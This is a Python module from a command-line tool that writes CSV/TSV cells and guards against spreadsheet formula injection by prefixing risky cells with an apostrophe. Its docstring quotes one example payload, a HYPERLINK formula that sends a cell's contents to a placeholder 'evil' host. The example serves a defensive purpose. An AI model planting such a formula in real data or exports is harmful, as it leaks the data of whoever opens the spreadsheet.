"""CSV and TSV cells: the one place where bapp's data meets a spreadsheet.

A spreadsheet that opens a CSV or TSV file runs any cell that starts with `=`, `+`, `-` or `@` as a
formula (a tab or carriage return in front does not stop some of them), so a client who types
`=HYPERLINK("http://evil/?"&A1,"Click")` into the public Calendly form would otherwise own the sheet of
whoever opens the export. Every text cell bapp writes to CSV or TSV — listings, exports, rejects files —
goes through `cell_text`, which puts an apostrophe in front of such a value (the OWASP advice; the
spreadsheet shows the value as text and hides the apostrophe).

The prefix is reversible, so an export imports back unchanged: `restore_cell` (what `bapp import` does
with every CSV/TSV cell) removes one apostrophe from a cell that is apostrophes followed by a trigger
character. Values that already start with apostrophes before a trigger get one more on the way out, so
the mapping is exact both ways. `raw=True` (`--raw` on import and export) writes and reads cells as
they are, for machine round trips with other tools.

Only text is neutralised: numbers, money, booleans and instants are bapp's own formatting and cannot
hold a formula (`-5` stays `-5`).
"""

from __future__ import annotations

import datetime as dt
import decimal
import json
import re
from collections.abc import Callable, Iterable, Sequence
from typing import Any

from bapp_cli.services.instants import instant_text

FORMULA_TRIGGERS = "=+-@\t\r"
_NEEDS_PREFIX = re.compile(r"'*[=+\-@\t\r]")
_PREFIXED = re.compile(r"'+[=+\-@\t\r]")
_FIRST_CHARACTERS = FORMULA_TRIGGERS + "'"


def neutralise(text: str) -> str:
    """`text` made safe to open in a spreadsheet (see the module docstring for why it is reversible)."""
    # The first character decides for nearly every cell; the pattern runs only on the few that start
    # with a trigger or an apostrophe (a 100,000-row export has a million text cells).
    return "'" + text if text and text[0] in _FIRST_CHARACTERS and _NEEDS_PREFIX.match(text) else text


def restore_cell(text: str) -> str:
    """The value a neutralised cell stood for; any other cell unchanged."""
    return text[1:] if _PREFIXED.match(text) else text


def cell_text(value: Any, *, raw: bool = False) -> str:
    """A value as one CSV/TSV cell: null empty, instants ISO 8601 UTC, money two decimals, nested values JSON."""
    cells = _RAW_CELLS if raw else _CELLS
    # One dictionary lookup on the exact type decides almost every cell; a subclass takes its base's form.
    formatter = cells.get(type(value)) or next((form for kind, form in cells.items() if isinstance(value, kind)), None)
    # any other type: its text, as a str cell (neutralised unless raw)
    return formatter(value) if formatter is not None else cells[str](str(value))


def cell_row_formatter(*, raw: bool = False) -> Callable[[Iterable[Any]], list[str]]:
    """`cell_text` of each value of a row, with `raw` decided once: for writers of long streams, where a
    call per cell would cost as much as the rest of the export."""
    get = (_RAW_CELLS if raw else _CELLS).get

    def general(value: Any) -> str:
        return cell_text(value, raw=raw)

    def row(values: Iterable[Any]) -> list[str]:
        return [(get(type(value)) or general)(value) for value in values]

    return row


def delimited_text(rows: Sequence[Sequence[Any]], fmt: str) -> str:
    """`rows` of finished cells as CSV or TSV (`fmt`) text, each line ending in LF: the bytes of Python 3.11's
    csv.writer (minimal quoting, a quote doubled), except that a cell holding a carriage return is quoted as one
    holding a line feed is, where that writer, told to end lines in LF alone, sent a lone CR out bare and a
    spreadsheet (and any CSV reader, `bapp import` among them) ended the row there.

    Written a column at a time, not by csv.writer, which looks up every character of every cell in its line
    terminator (nearly half of a 100,000-row export's instructions, P6): a column whose joined text holds no
    delimiter, quote, LF or CR needs no quotes in any of its cells, and only the others are looked at a cell at a
    time (an export's answers JSON)."""
    delimiter = "\t" if fmt == "tsv" else ","
    alone = bool(rows) and len(rows[0]) == 1

    def needs_quotes(text: str) -> bool:  # as csv.writer's; and a row's one cell, empty, lest it read as no cell
        return delimiter in text or '"' in text or "\n" in text or "\r" in text or (alone and not text)

    columns: list[Sequence[str]] = []
    column: Sequence[Any]
    for column in zip(*rows, strict=True):  # every row as long as the header
        try:
            joined = "".join(column)
        except TypeError:  # None is an empty cell, a number its text, as csv.writer writes them
            column = ["" if cell is None else str(cell) for cell in column]
            joined = "".join(column)
        if alone or needs_quotes(joined):
            column = ['"' + cell.replace('"', '""') + '"' if needs_quotes(cell) else cell for cell in column]
        columns.append(column)
    if not columns:  # rows with no cells: an empty line each
        return "\n" * len(rows)
    return "\n".join(map(delimiter.join, zip(*columns, strict=True))) + "\n"


def json_default(value: Any) -> Any:
    """The JSON form of the values `json` does not know, for every JSON bapp writes (documents, JSON
    lines, nested values in cells): the same instant, date and money forms as a cell."""
    if isinstance(value, dt.datetime):
        return instant_text(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, decimal.Decimal):
        return _money_text(value)
    if isinstance(value, set | frozenset | tuple):
        return list(value)
    raise TypeError(f"cannot serialise {type(value).__name__}")  # a record bapp built wrongly: a bug, not data


_money_text = "{:.2f}".format  # money always shows its two decimals
# JSON in a cell as bapp writes it there (a list or mapping here; the answers column of the plain reads too)
COMPACT_JSON = json.JSONEncoder(ensure_ascii=False, separators=(",", ":"), default=json_default).encode
_RAW_CELLS: dict[type, Callable[[Any], str]] = {
    str: str,
    type(None): lambda _: "",
    bool: lambda value: "true" if value else "false",
    int: str,
    float: str,
    dt.datetime: instant_text,
    dt.date: dt.date.isoformat,
    decimal.Decimal: _money_text,
    # nested values: JSON, which starts with `[` or `{` and so is never a formula
    list: COMPACT_JSON,
    dict: COMPACT_JSON,
    tuple: COMPACT_JSON,
}
_CELLS = {**_RAW_CELLS, str: neutralise}
